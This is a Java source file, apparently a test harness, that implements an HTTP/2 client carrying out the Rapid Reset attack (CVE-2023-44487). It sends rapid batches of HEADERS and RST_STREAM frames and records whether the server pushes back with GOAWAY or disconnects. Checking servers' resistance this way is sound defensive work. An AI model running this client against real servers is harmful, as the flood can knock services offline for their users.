package dev.vivavoce.bench.hostile;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.BufferedInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.time.Duration;

/// A hand-written HTTP/2 connection that only begins calls and resets them at once (CVE-2023-44487).
final class ResettingClient implements AutoCloseable {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII);
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int GOAWAY = 7;
    private static final int END_HEADERS = 4;
    private static final int ACK = 1;
    private static final byte[] CANCEL = {0, 0, 0, 8};
    private static final int UNKNOWN = -1;
    private static final int BUFFER = 16 << 10;
    /// Pairs of frames in one write.
    private static final int BATCH = 50;

    private final Socket socket;
    private final OutputStream out;
    private final byte[] headers;
    private volatile boolean closed;
    private volatile int goAway = UNKNOWN;
    private int stream = 1;
    private int sentInWindow;

    ResettingClient(String host, int port, String method) throws IOException {
        socket = new Socket();
        socket.setSendBufferSize(BUFFER); // otherwise buffered frames would count as sent
        socket.connect(new InetSocketAddress(host, port));
        out = socket.getOutputStream();
        headers = headers(host + ":" + port, "/" + method);
        out.write(PREFACE);
        out.write(frame(SETTINGS, 0, 0, new byte[0]));
        Thread.ofVirtual().start(this::read);
    }

    /// Sends up to this many resets, until the server closes the connection.
    ///
    /// @param window whose resets are counted, from the first one
    /// @return the number sent
    int reset(int most, Duration window) {
        int sent = 0;
        long begin = System.nanoTime();
        try {
            while (sent < most && !closed) {
                var batch = new ByteArrayOutputStream();
                for (int i = 0; i < Math.min(BATCH, most - sent); i++) {
                    batch.write(frame(HEADERS, END_HEADERS, stream, headers));
                    batch.write(frame(RST_STREAM, 0, stream, CANCEL));
                    stream += 2;
                }
                out.write(batch.toByteArray());
                sent += Math.min(BATCH, most - sent);
                if (System.nanoTime() - begin < window.toNanos()) sentInWindow = sent;
            }
        } catch (IOException _) {
            closed = true;
        }
        return sent;
    }

    /// The number sent in the window.
    int sentInWindow() {
        return sentInWindow;
    }

    /// Whether the server has closed it.
    boolean isClosed() {
        return closed;
    }

    /// The HTTP/2 error code from the server, if it was received: 11 is ENHANCE_YOUR_CALM.
    int goAway() {
        return goAway;
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }

    private void read() {
        try {
            var in = new DataInputStream(new BufferedInputStream(socket.getInputStream()));
            while (true) {
                int length = in.readUnsignedShort() << 8 | in.readUnsignedByte();
                int type = in.readUnsignedByte();
                int flags = in.readUnsignedByte();
                in.readInt();
                var payload = in.readNBytes(length);
                if (type == GOAWAY)
                    goAway = (payload[4] & 0xff) << 24
                            | (payload[5] & 0xff) << 16
                            | (payload[6] & 0xff) << 8
                            | payload[7];
                if (type == SETTINGS && (flags & ACK) == 0) out.write(frame(SETTINGS, ACK, 0, new byte[0]));
            }
        } catch (IOException _) { // the connection has ended
            closed = true;
        }
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        var frame = new byte[9 + payload.length];
        frame[0] = (byte) (payload.length >> 16);
        frame[1] = (byte) (payload.length >> 8);
        frame[2] = (byte) payload.length;
        frame[3] = (byte) type;
        frame[4] = (byte) flags;
        for (int i = 0; i < 4; i++) frame[5 + i] = (byte) (stream >> (24 - 8 * i));
        System.arraycopy(payload, 0, frame, 9, payload.length);
        return frame;
    }

    /// The headers of a gRPC call in HPACK, without the dynamic table.
    private static byte[] headers(String authority, String path) throws IOException {
        var block = new ByteArrayOutputStream();
        block.write(0x83); // :method POST
        block.write(0x86); // :scheme http
        literal(block, new byte[] {0x04}, path);
        literal(block, new byte[] {0x01}, authority);
        literal(block, new byte[] {0x0f, 31 - 15}, "application/grpc"); // content-type
        block.write(0);
        block.write(2);
        block.write("te".getBytes(US_ASCII));
        block.write(8);
        block.write("trailers".getBytes(US_ASCII));
        return block.toByteArray();
    }

    private static void literal(ByteArrayOutputStream block, byte[] name, String value) throws IOException {
        if (value.length() >= 127) throw new IllegalArgumentException(value.length() + " (expected: < 127)");
        block.write(name);
        block.write(value.length());
        block.write(value.getBytes(US_ASCII));
    }
}
